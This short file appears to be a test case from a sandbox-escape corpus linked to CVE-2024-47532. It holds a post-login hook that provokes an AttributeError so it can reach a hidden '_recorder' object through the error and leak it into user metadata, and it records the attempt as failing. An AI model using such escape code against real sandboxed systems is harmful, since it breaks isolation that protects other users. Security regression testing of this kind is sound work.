# origin: CVE-2024-47532
# technique: the api's own error carries the facade behind it
# goal: language
# outcome: RAISED:AttributeError

def on_execute_post_login(event, api):
    try:
        api.user.nope
    except AttributeError as error:
        api.user.set_app_metadata("escaped", str(getattr(getattr(error, "obj"), "_recorder")))
